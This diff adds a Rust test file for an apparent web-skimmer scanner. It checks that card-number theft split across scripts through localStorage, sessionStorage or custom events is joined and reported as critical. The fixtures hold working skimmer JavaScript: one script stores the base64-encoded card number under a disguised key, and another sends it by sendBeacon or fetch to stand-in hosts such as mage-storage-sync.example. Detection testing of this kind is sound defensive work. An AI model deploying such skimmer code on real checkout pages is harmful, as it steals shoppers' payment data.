@@ -1,0 +1,93 @@
+//! Data handed off before it is sent (issue 9, class 3): events, channels, ports, messages to
+//! itself, promises and microtasks, IndexedDB, cookies, DOM staging — within one script, and
+//! across the scripts of one page (they share one window): each script exports its pipes and
+//! the page-level join connects them.
+
+mod common;
+mod engine_support;
+use engine_support::{check_dir, engine, job};
+use skimscan::finding::Severity;
+
+#[test]
+fn hand_offs_within_a_script_are_followed() {
+    let (skim, legit) = check_dir("handoff");
+    assert!(
+        skim >= 8 && legit >= 2,
+        "{skim} skimmers, {legit} legitimate"
+    );
+}
+
+const WRITER: &str = "document.querySelector('#co-payment-form').addEventListener('submit', function () {\n  localStorage.setItem('mage-cache-sessid-ext', btoa(document.getElementById('cc_number').value));\n});";
+const SENDER: &str = "(function () {\n  var v = localStorage.getItem('mage-cache-sessid-ext');\n  if (v) { navigator.sendBeacon('https://mage-storage-sync.example/s', v); }\n})();";
+
+#[test]
+fn storage_written_by_one_script_and_sent_by_another_is_joined() {
+    let engine = engine();
+    let r = engine.analyse_batch(vec![job("writer.js", WRITER), job("sender.js", SENDER)]);
+    // Alone, neither script is critical: the writer sends nothing, the sender reads no card.
+    for a in &r {
+        assert!(
+            a.findings.iter().all(|f| f.severity < Severity::Critical),
+            "{:?}",
+            a.findings
+        );
+    }
+    let joined = engine.join_pipes(
+        "https://www.shop.example/checkout/",
+        &[("writer.js", &r[0]), ("sender.js", &r[1])],
+    );
+    assert_eq!(joined.len(), 1, "{joined:?}");
+    let f = &joined[0];
+    assert_eq!(f.rule, "payment-data-exfiltration");
+    assert_eq!(f.severity, Severity::Critical);
+    assert_eq!(f.hosts, vec!["mage-storage-sync.example".to_string()]);
+    assert_eq!(f.script.as_deref(), Some("sender.js"));
+    assert!(f.message.contains("writer.js"), "{}", f.message);
+    // A different key is a different pipe.
+    let other = SENDER.replace("mage-cache-sessid-ext", "recently_viewed");
+    let r2 = engine.analyse_batch(vec![job("writer.js", WRITER), job("other.js", &other)]);
+    assert!(
+        engine
+            .join_pipes("p", &[("writer.js", &r2[0]), ("other.js", &r2[1])])
+            .is_empty()
+    );
+}
+
+#[test]
+fn events_between_scripts_are_joined() {
+    let engine = engine();
+    let a = "document.getElementById('pay').onclick = function () {\n  window.dispatchEvent(new CustomEvent('checkout:step', { detail: { n: document.getElementById('cc_number').value } }));\n};";
+    let b = "window.addEventListener('checkout:step', function (e) {\n  fetch('https://step-metrics-cdn.example/e', { method: 'POST', body: JSON.stringify(e.detail) });\n});";
+    let r = engine.analyse_batch(vec![job("a.js", a), job("b.js", b)]);
+    let joined = engine.join_pipes("p", &[("a.js", &r[0]), ("b.js", &r[1])]);
+    assert!(
+        joined
+            .iter()
+            .any(|f| f.hosts == vec!["step-metrics-cdn.example".to_string()]),
+        "{joined:?}"
+    );
+}
+
+/// The whole pipeline: a checkout page whose two inline scripts hand card data through
+/// sessionStorage is reported critical with exit code 1.
+#[test]
+fn a_page_with_a_split_skimmer_is_reported_by_the_scan() {
+    let dir = tempfile::tempdir().unwrap();
+    let page = format!(
+        "<!doctype html><html><head><title>Checkout</title></head><body>\n<form id=\"co-payment-form\" action=\"/checkout/pay\">\n<input id=\"cc_number\" name=\"payment[cc_number]\" autocomplete=\"cc-number\">\n<input id=\"cc_cid\" name=\"payment[cc_cid]\" autocomplete=\"cc-csc\">\n<button>Pay</button></form>\n<script>{}</script>\n<script>{}</script>\n</body></html>",
+        WRITER.replace("localStorage", "sessionStorage"),
+        SENDER.replace("localStorage", "sessionStorage")
+    );
+    let path = dir.path().join("checkout.html");
+    std::fs::write(&path, page).unwrap();
+    let (code, report, stderr) = common::scan_json(&[path.to_str().unwrap(), "--fail-on", "high"]);
+    assert_eq!(code, 1, "{stderr}");
+    let findings = report["findings"].as_array().expect("findings");
+    assert!(
+        findings
+            .iter()
+            .any(|f| f["rule"] == "payment-data-exfiltration"
+                && f["hosts"][0] == "mage-storage-sync.example"),
+        "{report:#}"
+    );
+}
